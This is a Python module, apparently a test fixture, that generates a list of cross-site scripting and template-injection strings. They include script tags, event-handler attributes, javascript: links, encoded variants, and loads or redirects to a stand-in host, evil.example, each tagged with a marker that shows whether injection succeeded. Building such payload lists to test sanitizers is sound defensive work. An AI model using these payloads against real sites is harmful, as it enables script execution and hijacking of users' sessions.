"""Texts that want to become more than text: markup, addresses, templates, each leaving a mark where it succeeds."""

from __future__ import annotations

EXECUTES = "window.hacked=1"
MARK = "data-injected"
FOREIGN = "https://evil.example/"

_BODIES = (
    f"<script>{EXECUTES}</script>",
    f"<script {MARK} src={FOREIGN}x.js></script>",
    f"<img {MARK} src=x onerror={EXECUTES}>",
    f"<svg {MARK} onload={EXECUTES}>",
    f"<svg><animate {MARK} onbegin={EXECUTES} attributeName=x dur=1s></svg>",
    f'<iframe {MARK} srcdoc="<script>parent.{EXECUTES}</script>"></iframe>',
    f"<a {MARK} href=javascript:{EXECUTES}>link</a>",
    f"<a {MARK} href={FOREIGN}>link</a>",
    f"<details {MARK} open ontoggle={EXECUTES}>",
    f"<input {MARK} autofocus onfocus={EXECUTES}>",
    f"<video {MARK}><source onerror={EXECUTES}></video>",
    f"<body {MARK} onpageshow={EXECUTES}>",
    f"<form {MARK} action={FOREIGN}><button>Send</button></form>",
    f"<object {MARK} data={FOREIGN}></object>",
    f"<base {MARK} href={FOREIGN}>",
    f'<meta {MARK} http-equiv=refresh content="0;url={FOREIGN}">',
    f"<style {MARK}>@import '{FOREIGN}';</style>",
    f'<math {MARK}><mtext><img src=x onerror="{EXECUTES}"></mtext></math>',
    f"<b {MARK} style=\"background:url('{FOREIGN}')\">bold</b>",
    f"<template {MARK}></template><noscript><p title='</noscript><img src=x onerror={EXECUTES}>'>",
)
_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
)
_OTHERS = (
    f'" onmouseover="{EXECUTES}" {MARK}="',
    f"' onfocus='{EXECUTES}' autofocus {MARK}='",
    f"javascript:{EXECUTES}",
    "{{ 7|add:7 }}{% debug %}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "\\u003cscript\\u003e" + EXECUTES + "\\u003c/script\\u003e",
    "&lt;script&gt;" + EXECUTES + "&lt;/script&gt;",
    "%3Cscript%3E" + EXECUTES + "%3C/script%3E",
    "＜script＞" + EXECUTES + "＜/script＞",
    "\u202egpj.\u202c<b data-injected>",
    f'<a href="{FOREIGN}">click</a>',
    f"<a href='javascript&colon;{EXECUTES}'>click</a>",
)

# Those of one kind lie apart, so that any few of them are of several kinds.
HOSTILE_TEXTS: tuple[str, ...] = _OTHERS + tuple(before + body for before in _BREAKS for body in _BODIES)
